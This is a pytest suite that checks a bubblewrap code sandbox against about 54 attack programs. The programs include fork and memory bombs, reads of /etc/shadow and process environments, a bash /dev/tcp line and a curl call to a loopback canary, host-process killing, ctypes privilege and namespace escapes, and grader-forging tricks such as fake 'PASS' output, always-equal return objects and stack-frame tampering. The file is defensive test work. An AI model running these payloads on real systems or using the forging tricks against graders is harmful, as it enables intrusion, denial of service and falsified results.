"""The code sandbox: positive controls, and the attack suite, every attack judged
from outside (host files, a canary listener, a victim process, leftover processes,
wall time, the verdict), never from what the program says about itself."""
import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import time

import pytest

from transforms.verify.sandbox.config import SandboxConfig
from transforms.verify.sandbox.runner import UID_BASE, Sandbox
from transforms.verify.sandbox.suites import CodeTests, run_tests

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
#: The wall-clock limit of attack runs (positive controls get more room).
LIMIT_S = 1.0


def _pid_namespace(pid) -> str:
    try:
        return os.readlink(f"/proc/{pid}/ns/pid")
    except OSError:
        return ""


def _leftovers(run) -> set:
    """Live (not zombie) processes of a run: in its PID namespace, or running as the
    user the harness dropped to in this thread (other tests' sandboxes don't count)."""
    namespace = f"pid:[{run.pid_namespace}]"
    uid = UID_BASE + threading.get_native_id()
    found = set()
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/status") as fh:
                status = fh.read()
        except OSError:
            continue
        if "State:\tZ" in status:
            continue
        if int(status.split("Uid:\t", 1)[1].split()[0]) == uid or _pid_namespace(name) == namespace:
            found.add(int(name))
    return found


@pytest.fixture(scope="module")
def sandbox(working_sandbox):
    return working_sandbox(SandboxConfig(timeout_s=LIMIT_S, max_output_kb=256))


def test_missing_bubblewrap_is_infra_unavailable():
    box = Sandbox(SandboxConfig(bwrap="/nonexistent/bwrap"))
    assert "not found" in box.unavailable()
    suite = CodeTests("stdin", [("", "1\n")])
    assert run_tests("print(1)", suite, box)[0] == "infra_unavailable"


# -- positive controls ---------------------------------------------------------------

POSITIVE = {
    "echo_stdin": ("import sys\nprint(sys.stdin.read().strip()[::-1])", "abc\n", "cba\n"),
    "import_numpy": ("import numpy as np\nprint(int(np.arange(int(input())).sum()))", "5\n", "10\n"),
    "multiprocessing_pool": (
        "import multiprocessing as mp\n"
        "def sq(x):\n    return x * x\n"
        "if __name__ == '__main__':\n"
        "    with mp.Pool(2) as pool:\n        print(sum(pool.map(sq, range(int(input())))))",
        "4\n", "14\n"),
    "write_work_dir": (
        "import os\nopen('out.txt', 'w').write(input() * 3)\nos.makedirs('d/e')\n"
        "open('/tmp/t', 'w').write('x')\nprint(open('out.txt').read(), os.getcwd())",
        "ab\n", "ababab /home/sandbox\n"),
    # 4 threads alive at once (a run without a cgroup has 6 processes or threads: limits.py)
    "threads": (
        "import threading\nout = []\nbarrier = threading.Barrier(4)\n"
        "def work(i):\n    barrier.wait()\n    out.append(i)\n"
        "ts = [threading.Thread(target=work, args=(i,)) for i in range(4)]\n"
        "[t.start() for t in ts]\n[t.join() for t in ts]\nprint(sum(out))", "", "6\n"),
}


@pytest.mark.parametrize("name", sorted(POSITIVE))
def test_positive_controls_pass(roomy, name):
    source, stdin, expected = POSITIVE[name]
    assert run_tests(source, CodeTests("stdin", [(stdin, expected)]), roomy) == ("correct", "passed 1/1 tests")


def test_runs_are_independent_across_threads(sandbox, roomy):
    """A fork bomb in one thread doesn't starve a Pool(2) in another (per-run process limits)."""
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    source, stdin, expected = POSITIVE["multiprocessing_pool"]
    verdicts = {}
    bomber = threading.Thread(target=lambda: verdicts.update(bomb=run_tests(bomb, CodeTests("stdin", [("", "x")]),
                                                                             sandbox)))
    bomber.start()
    time.sleep(0.3)
    verdicts["pool"] = run_tests(source, CodeTests("stdin", [(stdin, expected)]), roomy)
    bomber.join()
    assert verdicts["pool"][0] == "correct"
    assert verdicts["bomb"][0] in ("timeout", "incorrect")


# -- the attack suite ----------------------------------------------------------------

LOOP = "while True:\n    pass"
FORK_16 = ("import os, time\nfor _ in range(16):\n    try:\n        if os.fork() == 0:\n            break\n"
           "    except OSError:\n        break\n")
SOCKET_SWEEP = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor family in range(64):\n"
                "    for kind in (1, 2, 3, 5):\n        fd = libc.socket(family, kind, 0)\n"
                "        if fd >= 0 and family not in (1, 2, 10):\n            print('opened', family, kind)\n"
                "        pair = (ctypes.c_int * 2)()\n"
                "        if libc.socketpair(family, kind, 0, pair) == 0 and family != 1:\n"
                "            print('pair', family, kind)")
FORGE_STDOUT = "print('PASS')\nprint('All tests passed')\nimport sys\nsys.exit(0)"

#: name → (mode, source). Placeholders: SECRET_FILE, HOST_DIR, PORT, UDP_PORT, VICTIM,
#: PARENT. ``call`` attacks define ``solve`` and are called with one argument list.
ATTACKS = {
    "infinite_loop": ("stdin", LOOP),
    "sleep": ("stdin", "import time\ntime.sleep(1000)"),
    "ignore_sigterm_and_loop": ("stdin", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n" + LOOP),
    "memory_bomb_one_block": ("stdin", "x = bytearray(64 * 1024 ** 3)\nprint(len(x))"),
    "memory_bomb_growing": ("stdin", "xs = []\nwhile True:\n    xs.append(bytearray(50 * 1024 ** 2))"),
    "fork_bomb": ("stdin", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
    "fork_bomb_sleepers": ("stdin", "import os, time\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
                                    "            time.sleep(1000)\n    except OSError:\n        pass\ntime.sleep(1000)"),
    "thread_bomb": ("stdin", "import threading, time\nwhile True:\n    try:\n"
                             "        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n"
                             "    except RuntimeError:\n        pass"),
    "raise_limits_then_fork": ("stdin", "import os, resource\n"
                                        "for r in (resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_AS):\n"
                                        "    try:\n        resource.setrlimit(r, (resource.RLIM_INFINITY,) * 2)\n"
                                        "    except (ValueError, OSError):\n        pass\n"
                                        "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
    "fd_exhaustion": ("stdin", "fs = []\nwhile True:\n    fs.append(open('/dev/null'))"),
    "disk_fill_one_file": ("stdin", "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * 2 ** 20)"),
    "disk_fill_many_files": ("stdin", "i = 0\nwhile True:\n    open(f'f{i}', 'wb').write(b'x' * 2 ** 20)\n    i += 1"),
    "tmp_and_shm_fill": ("stdin", "i = 0\nwhile True:\n    for d in ('/tmp', '/dev/shm'):\n"
                                  "        open(f'{d}/f{i}', 'wb').write(b'x' * 2 ** 20)\n    i += 1"),
    "stdout_flood": ("stdin", "while True:\n    print('x' * 10000)"),
    "stderr_flood": ("stdin", "import sys\nwhile True:\n    sys.stderr.write('y' * 10000)"),
    "env_secrets": ("stdin", "import os\nprint(dict(os.environ))"),
    "proc_environ_secrets": ("stdin", "import os\nfor p in os.listdir('/proc'):\n    try:\n"
                                      "        print(p, open(f'/proc/{p}/environ', 'rb').read())\n"
                                      "        print(p, open(f'/proc/{p}/cmdline', 'rb').read())\n"
                                      "    except OSError as e:\n        print(p, e)"),
    "host_file_read": ("stdin", "import glob\nfor path in ['SECRET_FILE', '/etc/shadow', '/etc/passwd', '/root/.bashrc',\n"
                                "             'PROJECT/setup.py', *glob.glob('/work*/**', recursive=True)[:50]]:\n"
                                "    try:\n        print(path, open(path).read()[:200])\n"
                                "    except OSError as e:\n        print(path, e)"),
    "host_file_write": ("stdin", "import os, sys\n"
                                 "for path in ['HOST_DIR/pwned', '/tmp/HOST_TOKEN', 'PROJECT/pwned',\n"
                                 "             sys.prefix + '/pwned', '/usr/pwned', '/etc/pwned']:\n"
                                 "    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
                                 "        open(path, 'w').write('pwned')\n    except OSError as e:\n        print(e)"),
    "loopback_canary": ("stdin", "import socket\nfor host in ('127.0.0.1', 'localhost', '::1', 'HOST_IP'):\n"
                                 "    try:\n        s = socket.create_connection((host, PORT), timeout=0.5)\n"
                                 "        s.sendall(b'escaped')\n    except OSError as e:\n        print(host, e)"),
    "udp_canary": ("stdin", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                            "for host in ('127.0.0.1', 'HOST_IP'):\n    try:\n"
                            "        s.sendto(b'escaped', (host, UDP_PORT))\n    except OSError as e:\n        print(e)"),
    "shell_tcp_canary": ("stdin", "import subprocess\nsubprocess.run(['bash', '-c', 'echo escaped > /dev/tcp/127.0.0.1/PORT'],"
                                  " timeout=1)\nsubprocess.run(['sh', '-c', 'curl -s http://127.0.0.1:PORT/ || true'],"
                                  " timeout=1)"),
    "kill_parent": ("stdin", "import os, signal\nfor pid in (os.getppid(), 1, PARENT, VICTIM):\n    try:\n"
                             "        os.kill(pid, signal.SIGKILL)\n    except OSError as e:\n        print(pid, e)"),
    "kill_everything": ("stdin", "import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('survived')"),
    "double_fork_daemon": ("stdin", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                                    "        while True:\n            open('/tmp/alive', 'w').write(str(time.time()))\n"
                                    "            time.sleep(0.1)\n    os._exit(0)\nprint('parent done')"),
    "detached_subprocess": ("stdin", "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True,\n"
                                     "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)"),
    "exit_zero_before_tests": ("stdin", "import os\nos._exit(0)"),
    "forge_pass_stdout": ("stdin", FORGE_STDOUT),
    "exit_zero_before_calls": ("call", "import os\nos._exit(0)\ndef solve(x):\n    return x"),
    "always_equal_object": ("call", "class Eq:\n    def __eq__(self, other):\n        return True\n"
                                    "    def __ne__(self, other):\n        return False\n"
                                    "def solve(x):\n    return Eq()"),
    "always_equal_str_subclass": ("call", "class S(str):\n    def __eq__(self, other):\n        return True\n"
                                          "def solve(x):\n    return S('nope')"),
    "frame_walk_forge": ("call", "import sys, json\n"
                                 "def solve(x):\n    f = sys._getframe(1)\n"
                                 "    while f is not None:\n        for k in list(f.f_locals):\n"
                                 "            if k in ('dumps', 'write', 'expected', 'cases'):\n"
                                 "                f.f_locals[k] = None\n        f = f.f_back\n"
                                 "    for fd in range(3, 20):\n        try:\n"
                                 "            import os\n            os.write(fd, b'{\"i\": 0, \"value\": \"PASS\"}\\n')\n"
                                 "        except OSError:\n            pass\n"
                                 "    json.dumps = lambda *a, **k: '{\"i\": 0, \"value\": true, \"passed\": true}'\n"
                                 "    return 'PASS'"),
    "ctypes_escapes": ("stdin", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                                "print('unshare', libc.unshare(0x10000000 | 0x40000000), ctypes.get_errno())\n"
                                "print('setuid', libc.setuid(0), os.getuid())\n"
                                "print('mount', libc.mount(b'none', b'/usr', b'tmpfs', 0, None), ctypes.get_errno())\n"
                                "print('chroot', libc.chroot(b'/tmp'), ctypes.get_errno())\n"
                                "print('ptrace', libc.ptrace(16, 1, None, None), ctypes.get_errno())\n"
                                "print('reboot', libc.reboot(0x4321fedc), ctypes.get_errno())\n"
                                "open('/usr/pwned', 'w')"),
    "posix_escapes": ("stdin", "import os\nfor name, call in [('setns', lambda: os.setns(os.open('/proc/1/ns/mnt', 0))),\n"
                               "    ('chroot', lambda: os.chroot('/')), ('setuid', lambda: os.setuid(0)),\n"
                               "    ('sysctl', lambda: open('/proc/sys/kernel/hostname', 'w').write('x')),\n"
                               "    ('mknod', lambda: os.mknod('/home/sandbox/sda', 0o600 | 0o60000, os.makedev(8, 0))),\n"
                               "    ('sys', lambda: os.listdir('/sys'))]:\n"
                               "    try:\n        print(name, call())\n    except Exception as e:\n"
                               "        print(name, type(e).__name__, e)\n"
                               "open('HOST_DIR/posix_pwned', 'w')"),
    "ctypes_segfault": ("stdin", "import ctypes\nctypes.string_at(0)"),
    "tty_injection": ("stdin", "import fcntl, termios, os\nfor fd in (0, 1, 2):\n    try:\n"
                               "        fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n    except OSError as e:\n        print(e)\n"
                               "fd = os.open('/dev/tty', os.O_RDWR)"),
    "symlink_out": ("stdin", "import os\nos.symlink('SECRET_FILE', 'link')\nprint(open('link').read())"),
    # issue #17, class 5: limits per run, not per process; files in the tmpfs; socket families
    "memory_across_processes": ("stdin", FORK_16 + "blocks = []\ntry:\n    while True:\n"
                                         "        blocks.append(b'x' * (16 << 20))\nexcept MemoryError:\n    pass\n"
                                         "time.sleep(100)"),
    "memory_thread_stacks": ("stdin", "import threading, time\nfor size in (1 << 30, 1 << 28, 1 << 26):\n"
                                      "    threading.stack_size(size)\n    for _ in range(64):\n        try:\n"
                                      "            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()\n"
                                      "        except RuntimeError:\n            break\ntime.sleep(100)"),
    "shared_mmap_children": ("stdin", "import mmap\n" + FORK_16 + "try:\n"
                                      "    m = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)\n"
                                      "    for i in range(0, len(m), 4096):\n        m[i] = 1\n"
                                      "except (OSError, ValueError, MemoryError) as e:\n    print(e)\ntime.sleep(100)"),
    "memfd_bomb": ("stdin", "import mmap, os, time\nfd = os.memfd_create('x')\ntry:\n    os.ftruncate(fd, 4 << 30)\n"
                            "    m = mmap.mmap(fd, 4 << 30)\n    for i in range(0, len(m), 4096):\n        m[i] = 1\n"
                            "except (OSError, ValueError, MemoryError) as e:\n    print(e)\ntime.sleep(100)"),
    "empty_file_flood": ("stdin", "for d in ('/tmp', '/dev/shm', '.'):\n    i = 0\n    try:\n        while i < 700000:\n"
                                  "            open(f'{d}/e{i}', 'w').close()\n            i += 1\n"
                                  "    except OSError as e:\n        print(d, i, e)"),
    "dir_and_link_flood": ("stdin", "import os\nopen('t', 'w').close()\n"
                                    "for make in (lambda i: os.mkdir(f'd{i}'), lambda i: os.link('t', f'l{i}'),\n"
                                    "             lambda i: os.symlink('t', f's{i}')):\n    i = 0\n    try:\n"
                                    "        while i < 700000:\n            make(i)\n            i += 1\n"
                                    "    except OSError as e:\n        print(i, e)"),
    "xattr_flood": ("stdin", "import os\ni = 0\ntry:\n    while i < 100000:\n        open(f'x{i}', 'w').close()\n"
                             "        for k in range(64):\n            os.setxattr(f'x{i}', f'user.k{k}', b'v' * 60000)\n"
                             "        i += 1\nexcept OSError as e:\n    print(i, e)"),
    "pipe_buffer_fill": ("stdin", "import os, fcntl\nfds = []\ntry:\n    while True:\n        r, w = os.pipe()\n"
                                  "        try:\n            fcntl.fcntl(w, 1031, 1 << 20)\n        except OSError:\n"
                                  "            pass\n        os.set_blocking(w, False)\n        try:\n            while True:\n"
                                  "                os.write(w, b'x' * 65536)\n        except BlockingIOError:\n"
                                  "            pass\n        fds += [r, w]\nexcept OSError as e:\n    print(len(fds), e)"),
    "vsock_to_hypervisor": ("stdin", "import socket\nfor cid in (2, 1, 0xFFFFFFFF):\n    try:\n"
                                     "        s = socket.socket(40, socket.SOCK_STREAM)\n        s.settimeout(0.3)\n"
                                     "        s.connect((cid, 22))\n        s.sendall(b'escaped')\n"
                                     "    except OSError as e:\n        print(cid, e)"),
    "exotic_socket_families": ("stdin", "import socket\nfor family, kind, proto in ((16, 3, 0), (17, 3, 0x0300), (38, 5, 0),\n"
                                        "        (29, 3, 1), (30, 1, 0), (21, 5, 0), (44, 3, 0), (31, 1, 0)):\n"
                                        "    try:\n        socket.socket(family, kind, proto)\n"
                                        "        print('opened', family)\n    except OSError as e:\n        print(family, e)"),
    "socket_family_sweep": ("stdin", SOCKET_SWEEP),
    # issue #17, class 6: whatever comes back on the result channel is a verdict, never an exception
    "result_channel_deep_json": ("call", "import os\ndef solve(x):\n    for fd in range(3, 20):\n        try:\n"
                                         "            os.write(fd, b'{\"i\": 0, \"value\": ' + b'[' * 50000 + b']' * 50000"
                                         " + b'}\\n')\n        except OSError:\n            pass\n    return [[[x]]]"),
    "result_channel_garbage": ("call", "import os\ndef solve(x):\n    junk = [b'\\xff\\xfe\\n', b'{\"i\": true, \"value\": 1}\\n',\n"
                                       "            b'{\"i\": 0.0, \"value\": 1}\\n', b'{\"i\": 0, \"value\": ' + b'9' * 5000 + b'}\\n',\n"
                                       "            b'{\"i\": 0, \"error\": \"' + b'e' * 100000 + b'\"}\\n', b'[NaN, Infinity]\\n']\n"
                                       "    for fd in range(3, 20):\n        for line in junk:\n            try:\n"
                                       "                os.write(fd, line)\n            except OSError:\n                pass\n"
                                       "    os._exit(0)"),
    "result_flood_lines": ("call", "import os\ndef solve(x):\n    line = b'{\"i\": 0, \"value\": 1}\\n' * 1000\n"
                                   "    for fd in range(3, 20):\n        try:\n            for _ in range(100000):\n"
                                   "                os.write(fd, line)\n        except OSError:\n            pass\n    return x"),
    "return_deeply_nested": ("call", "import sys\nsys.setrecursionlimit(10 ** 6)\ndef solve(x):\n    v = x\n"
                                     "    for _ in range(100000):\n        v = [v]\n    return v"),
    "return_huge_int": ("call", "def solve(x):\n    return 10 ** 100000"),
    "return_non_finite": ("call", "def solve(x):\n    return [float('nan'), float('inf'), -float('inf')]"),
}


@pytest.fixture(scope="module")
def canary():
    """A TCP listener on 127.0.0.1 and one on every address, plus a UDP socket;
    ``hits`` collects whatever reaches them."""
    hits = []
    tcp_local = socket.socket()
    tcp_local.bind(("127.0.0.1", 0))
    port = tcp_local.getsockname()[1]
    tcp_any = socket.socket()
    tcp_any.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        tcp_any.bind(("0.0.0.0", port))
    except OSError:
        tcp_any.bind(("0.0.0.0", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    for s in (tcp_local, tcp_any):
        s.listen(8)
        s.settimeout(0.2)
    udp.settimeout(0.2)
    stop = threading.Event()

    def watch(sock, kind):
        while not stop.is_set():
            try:
                if kind == "udp":
                    hits.append(sock.recvfrom(100))
                else:
                    conn, addr = sock.accept()
                    hits.append(addr)
                    conn.close()
            except OSError:
                continue

    threads = [threading.Thread(target=watch, args=(s, k), daemon=True)
               for s, k in ((tcp_local, "tcp"), (tcp_any, "tcp"), (udp, "udp"))]
    for t in threads:
        t.start()
    yield {"hits": hits, "port": port, "udp_port": udp.getsockname()[1]}
    stop.set()
    for t in threads:
        t.join()
    for s in (tcp_local, tcp_any, udp):
        s.close()


@pytest.fixture(scope="module")
def victim():
    """A host process of ours that no sandboxed program may kill."""
    process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # VICTIM-MARKER"])
    yield process
    process.kill()
    process.wait()


def _host_ip() -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_is_contained(sandbox, canary, victim, tmp_path, monkeypatch, name):
    mode, source = ATTACKS[name]
    secret = secrets.token_hex(16)
    monkeypatch.setenv("SANDBOX_TEST_SECRET", secret)
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(secret)
    host_token = f"sandbox-attack-{secret}"
    project = ROOT
    for key, value in {"SECRET_FILE": str(secret_file), "HOST_DIR": str(tmp_path), "HOST_TOKEN": host_token,
                       "UDP_PORT": str(canary["udp_port"]), "PORT": str(canary["port"]), "VICTIM": str(victim.pid),
                       "PARENT": str(os.getpid()), "PROJECT": project, "HOST_IP": _host_ip()}.items():
        source = source.replace(key, value)
    expected = secrets.token_hex(8)  # nothing inside the sandbox can know it
    suite = (CodeTests("call", [([1], expected)], "solve") if mode == "call"
             else CodeTests("stdin", [("", expected + "\n")]))
    hits_before, runs_before = len(canary["hits"]), len(sandbox.runs)
    host_files_before = set(os.listdir(tmp_path))

    started = time.monotonic()
    verdict, reason = run_tests(source, suite, sandbox)
    elapsed = time.monotonic() - started

    run = sandbox.runs[runs_before]
    seen = run.stdout + run.stderr + json.dumps(run.results).encode()
    assert verdict in ("incorrect", "timeout"), (verdict, reason)
    assert len(reason) <= 300, reason  # a forged error message is cut, not copied into every row
    assert elapsed <= LIMIT_S + 1.0, elapsed
    assert secret.encode() not in seen, "a secret reached the sandbox"
    assert b"VICTIM-MARKER" not in seen, "host processes are visible"
    assert canary["hits"][hits_before:] == [], "the canary listener was reached"
    assert set(os.listdir(tmp_path)) == host_files_before, "a host file was written"
    for path in (f"/tmp/{host_token}", os.path.join(project, "pwned"), os.path.join(sys.prefix, "pwned"),
                 "/usr/pwned", "/etc/pwned"):
        assert not os.path.exists(path), path
    assert victim.poll() is None, "a host process was killed"
    assert run.pid_namespace, "bubblewrap did not report the run's PID namespace"
    assert _leftovers(run) == set(), "processes outlived the run"


def test_attack_suite_is_large_enough():
    assert len(ATTACKS) >= 54  # 37, then 17 more for issue #17 (and tests/.../test_checker_attacks.py)
